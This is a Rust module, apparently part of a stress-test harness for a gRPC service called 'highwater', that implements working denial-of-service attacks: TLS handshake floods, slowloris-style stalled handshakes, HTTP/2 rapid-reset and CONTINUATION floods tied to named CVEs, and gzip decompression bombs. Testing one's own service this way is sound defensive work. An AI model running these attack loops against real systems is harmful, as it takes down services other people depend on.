//! What attackers do, until they are killed.

use std::io::{self, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::thread::sleep;
use std::time::{Duration, Instant};

use rustls::ClientConfig;

use crate::Failure;
use crate::raw::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, Tls, drain, frame, handshake, head, http2, tcp,
    tls_config,
};

/// Handshakes a second, over all nodes.
const HANDSHAKES_PER_SECOND: u64 = 500;
const NODES: u64 = 3;
/// Connections of one attacker that stay in their handshake: as many as one address may have with a node. More would be closed at once, and
/// be a flood of connections.
const SLOW_MAX: usize = 64;
/// Calls that are begun and given up in one write.
const RESETS_AT_ONCE: u32 = 64;
/// Of one frame of headers.
const HEADER_BYTES: usize = 8 * 1024;
/// Frames of headers of one call.
const CONTINUATIONS: usize = 512;
/// A message that says it is compressed, bytes: zeros, which could have been a thousand times as many.
const BOMB_BYTES: usize = 4 * 1024 * 1024 - 1024;
/// How long to wait after a failure, so that an attacker that is kept out does not only burn the cores.
const PAUSE: Duration = Duration::from_millis(20);

const PATH: &str = "/highwater.v1.TopicService/ListTopics";
const PRODUCE: &str = "/highwater.v1.LogService/Produce";

type Attack = fn(&str, &str) -> Result<(), Failure>;

pub(crate) const ALL: [(&str, Attack); 5] = [
    ("handshakes", handshakes),
    ("slow", slow),
    ("resets", resets),
    ("headers", headers),
    ("bombs", bombs),
];

pub(crate) fn run(name: &str, address: &str, certificates: &str) -> Result<(), Failure> {
    let attack = ALL.iter().find(|(known, _)| *known == name);
    let (_, attack) = attack.ok_or_else(|| format!("there is no attack {name}"))?;
    attack(address, certificates)
}

/// As many as were asked for, evenly.
fn handshakes(address: &str, certificates: &str) -> Result<(), Failure> {
    let config = tls_config(certificates, false)?;
    let each = Duration::from_secs(1) * NODES as u32 / HANDSHAKES_PER_SECOND as u32;
    let mut due = Instant::now();
    loop {
        // Refused in the end, as it is meant to be: what costs is what comes before.
        let _ = handshake(address, &config);
        due += each;
        sleep(due.saturating_duration_since(Instant::now()));
    }
}

/// The first bytes of a handshake, one more now and then.
fn slow(address: &str, _certificates: &str) -> Result<(), Failure> {
    let mut open: Vec<TcpStream> = Vec::new();
    loop {
        open.retain_mut(|connection| connection.write_all(&[0]).is_ok());
        while open.len() < SLOW_MAX {
            let Ok(mut connection) = tcp(address) else { break };
            // A handshake record of 16 KiB that never ends.
            if connection.write_all(&[0x16, 3, 1, 0x40, 0, 1]).is_ok() {
                open.push(connection);
            }
        }
        sleep(Duration::from_millis(200));
    }
}

/// Begun and given up (CVE-2023-44487).
fn resets(address: &str, certificates: &str) -> Result<(), Failure> {
    let config = tls_config(certificates, true)?;
    on_connections(address, &config, |stream, first| {
        let mut flood = Vec::new();
        for number in 0..RESETS_AT_ONCE {
            let id = first + 2 * number;
            flood.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &head(PATH, &[])));
            flood.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        stream.write_all(&flood)?;
        Ok(2 * RESETS_AT_ONCE)
    })
}

/// A head that goes on and on (CVE-2024-27316).
fn headers(address: &str, certificates: &str) -> Result<(), Failure> {
    let config = tls_config(certificates, true)?;
    let value = "x".repeat(HEADER_BYTES);
    on_connections(address, &config, |stream, id| {
        stream.write_all(&frame(HEADERS, 0, id, &head(PATH, &[])))?;
        let more = &head(PATH, &[("x-more", &value)])[2..];
        for _ in 0..CONTINUATIONS {
            stream.write_all(&frame(CONTINUATION, 0, id, more))?;
        }
        stream.write_all(&frame(CONTINUATION, END_HEADERS, id, &[]))?;
        Ok(2)
    })
}

/// Messages that claim to be compressed, and that claim to be longer than they may be.
fn bombs(address: &str, certificates: &str) -> Result<(), Failure> {
    let config = tls_config(certificates, true)?;
    let chunk = vec![0; 16 * 1024];
    on_connections(address, &config, |stream, id| {
        let compressed = head(PRODUCE, &[("grpc-encoding", "gzip")]);
        stream.write_all(&frame(HEADERS, END_HEADERS, id, &compressed))?;
        let mut prefix = vec![1];
        prefix.extend((BOMB_BYTES as u32).to_be_bytes());
        stream.write_all(&frame(DATA, 0, id, &prefix))?;
        for _ in 0..BOMB_BYTES / chunk.len() {
            stream.write_all(&frame(DATA, 0, id, &chunk))?;
            if !drain(stream) {
                return Err(io::ErrorKind::ConnectionAborted.into());
            }
        }
        stream.write_all(&frame(DATA, END_STREAM, id, &[]))?;
        Ok(2)
    })
}

/// Calls `act` with the next id of a stream again and again, on a new connection whenever one ends; it answers how far ids have gone.
fn on_connections(
    address: &str,
    config: &Arc<ClientConfig>,
    mut act: impl FnMut(&mut Tls, u32) -> io::Result<u32>,
) -> Result<(), Failure> {
    loop {
        if let Ok(mut stream) = http2(address, config) {
            let mut id = 1;
            while let Ok(used) = act(&mut stream, id) {
                id += used;
                if !drain(&mut stream) {
                    break;
                }
            }
        }
        sleep(PAUSE);
    }
}
